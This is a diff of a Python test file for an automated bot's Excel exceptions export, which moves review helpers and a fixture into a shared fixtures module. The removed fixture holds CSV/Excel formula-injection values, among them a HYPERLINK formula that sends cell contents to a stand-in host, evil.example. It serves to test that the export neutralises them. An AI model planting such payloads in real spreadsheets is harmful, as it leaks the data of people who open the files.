@@ -1,111 +1,33 @@
 """The exceptions file: what a reviewer sees, and that Excel opens it safely and privately.
 
-The helpers at the top put real queue items in the states a reviewer deals with; the import tests
-reuse them.
+Items are put in the states a reviewer deals with by tests/fixtures/review.py.
 """
 
 from __future__ import annotations
 
-import csv
 import stat
 import zipfile
 from datetime import date
 from pathlib import Path
-from typing import Any
 
 import pandas as pd
 from openpyxl import load_workbook
 
-from bot.concordance import compare_alerts
-from bot.errors import CODES, SystemException
-from bot.icope import alerts_for
-from bot.models import SelfAssessment
+from bot.errors import CODES
 from bot.review import export_exceptions
-from bot.workqueue import RetryPolicy, WorkQueue
+from bot.workqueue import WorkQueue
 from tests.fixtures.queue import make_assessment
+from tests.fixtures.review import (
+    DAY,
+    HOSTILE_RAW,
+    to_failed,
+    to_invalid,
+    to_review,
+    xlsx_rows,
+)
 
-DAY = date(2025, 6, 2)
 DECISIONS = ["approve", "retry", "reject", "fix"]
 MOBILITY = "Alertes comparées — Mobilité"
-
-#: An invalid export row whose cells try to run formulas in the reviewer's spreadsheet.
-HOSTILE_RAW: dict[str, str] = {
-    "Date d'évaluation": "14/03/2025",
-    "Nom de naissance": '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
-    "Prénoms de naissance": "+Jeanne",
-    "Date de naissance": "31/02/1940",
-    "Sexe": "F",
-    "Téléphone": "-2+3",
-    "E-mail": "@SUM(1+1)",
-    "Adresse": "\t=1+1",
-}
-
-
-def to_review(queue: WorkQueue, assessment: SelfAssessment, *, evidence: list[Path] = ()) -> str:
-    """Enqueue, lease and release to ``needs_review`` as the flow does after a mobility mismatch."""
-    queue.enqueue(assessment, source="/data/export-mars.xlsx", row=7)
-    (item,) = queue.lease("w1", references=[assessment.reference])
-    ref = alerts_for(assessment.answers, age=assessment.age_on_assessment())
-    target = ref.model_copy(update={"mobilite": not ref.mobilite})
-    concordance = compare_alerts(assessment.app_alerts, target, ref, assessment.answers)
-    with item:
-        for path in evidence:
-            item.add_evidence(path)
-        item.result = {**concordance.as_result(), "dossier_id": "D-1"}
-        item.needs_review(concordance.reason(), concordance.details(), "alerts_discordant")
-    return assessment.reference
-
-
-def to_failed(queue: WorkQueue, assessment: SelfAssessment) -> str:
-    """Enqueue, then fail on the last attempt with a system error."""
-    queue.enqueue(assessment, source="/data/export-mars.xlsx", row=8)
-    (item,) = queue.lease(
-        "w1", references=[assessment.reference], policy=RetryPolicy(max_attempts=1)
-    )
-    with item:
-        raise SystemException("Le site e-parcours ne répond pas (délai dépassé)", code="timeout")
-    return assessment.reference
-
-
-def to_invalid(queue: WorkQueue, reference: str, raw: dict[str, str]) -> str:
-    queue.quarantine(
-        reference,
-        source="/data/export-mars.csv",
-        row=12,
-        reasons=["« Date de naissance » : date impossible"],
-        raw=raw,
-    )
-    return reference
-
-
-def xlsx_rows(path: Path) -> list[dict[str, Any]]:
-    """The Exceptions sheet as dicts keyed by header."""
-    ws = load_workbook(path)["Exceptions"]
-    grid = [[c.value for c in row] for row in ws.iter_rows()]
-    return [dict(zip(grid[0], r, strict=True)) for r in grid[1:]]
-
-
-def fill_xlsx(path: Path, edits: dict[str, dict[str, Any]]) -> None:
-    """Type values into cells, found by reference and header, as a reviewer does in Excel."""
-    wb = load_workbook(path)
-    ws = wb["Exceptions"]
-    headers = {c.value: c.column for c in ws[1]}
-    for row in ws.iter_rows(min_row=2):
-        for header, value in edits.get(str(row[0].value), {}).items():
-            ws.cell(row=row[0].row, column=headers[header], value=value)
-    wb.save(path)
-
-
-def fill_csv(path: Path, edits: dict[str, dict[str, str]]) -> None:
-    """Edit the CSV and save it as French Excel does (UTF-8 with BOM, ';')."""
-    with path.open(encoding="utf-8-sig", newline="") as f:
-        rows = list(csv.reader(f, delimiter=";"))
-    for r in rows[1:]:
-        for header, value in edits.get(r[0], {}).items():
-            r[rows[0].index(header)] = value
-    with path.open("w", encoding="utf-8-sig", newline="") as f:
-        csv.writer(f, delimiter=";").writerows(rows)
-
 
 # --- what the file lists ---------------------------------------------------------------------
 
